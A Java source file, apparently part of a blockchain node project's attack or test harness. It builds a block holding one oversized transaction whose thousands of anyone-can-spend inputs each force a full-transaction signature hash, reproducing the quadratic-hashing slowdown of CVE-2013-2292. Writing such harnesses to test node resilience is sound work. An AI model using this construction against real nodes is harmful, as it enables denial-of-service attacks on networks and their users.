package weft.app.attack;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import weft.consensus.script.Opcode;
import weft.consensus.script.ScriptBuilder;
import weft.primitives.Block;
import weft.primitives.BlockHeader;
import weft.primitives.Bytes;
import weft.primitives.OutPoint;
import weft.primitives.Transaction;
import weft.primitives.TxIn;
import weft.primitives.TxOut;

/// A transaction that fills a block, and of which every signature hashes all of it (CVE-2013-2292).
///
/// The coins that it spends hold the signature themselves, so that nothing of it is left out of what is
/// hashed, and want it to be false: it is of nothing, and what is hashed and what the curve does is what a
/// right one costs, without anybody having to sign.
public final class SlowSpend {
    /// As many as the transaction of 2015 had, about.
    public static final int INPUTS_FULL = 5_500;

    private static final int TX_BYTES = 999_500;
    private static final int INPUT_BYTES = 41;
    private static final int REST_BYTES = 25;

    /// A signature that can be read, of all inputs and outputs.
    private static final Bytes SIGNATURE = Bytes.parse("300602010102010101");

    private static final Bytes KEY =
            Bytes.parse("0279be667ef9dcbbac55a06295ce870b07029bfcdb2dce28d959f2815b16f81798");

    private static final Bytes SCRIPT =
            new ScriptBuilder()
                    .push(SIGNATURE)
                    .push(KEY)
                    .op(Opcode.OP_CHECKSIG)
                    .op(Opcode.OP_NOT)
                    .build();

    private SlowSpend() {}

    /// Makes the coins.
    ///
    /// @param coin of a coinbase, open to everybody
    static Transaction coins(OutPoint coin, int inputs) {
        var outputs = Collections.nCopies(inputs, new TxOut(Ledger.COIN / inputs, SCRIPT));
        return Transaction.of(2, List.of(new TxIn(coin, Bytes.EMPTY, 0)), outputs, List.of(), 0);
    }

    /// Spends them.
    static Transaction of(Transaction coins) {
        int count = coins.outputs().size();
        var inputs = new ArrayList<TxIn>(count);
        for (int i = 0; i < count; i++) {
            inputs.add(new TxIn(new OutPoint(coins.txid(), i), Bytes.EMPTY, 0));
        }
        byte[] filler = new byte[TX_BYTES - REST_BYTES - INPUT_BYTES * count];
        return Transaction.of(2, inputs, List.of(new TxOut(0, Bytes.wrap(filler))), List.of(), 0);
    }

    /// Two blocks, the second of which is slow.
    ///
    /// @param coin of a coinbase, open to everybody and mature
    public static List<Block> blocks(BlockHeader parent, int height, OutPoint coin, int inputs) {
        Transaction coins = coins(coin, inputs);
        Block first = Ledger.on(parent, height, 0, List.of(coins));
        return List.of(first, Ledger.on(first.header(), height + 1, 0, List.of(of(coins))));
    }
}
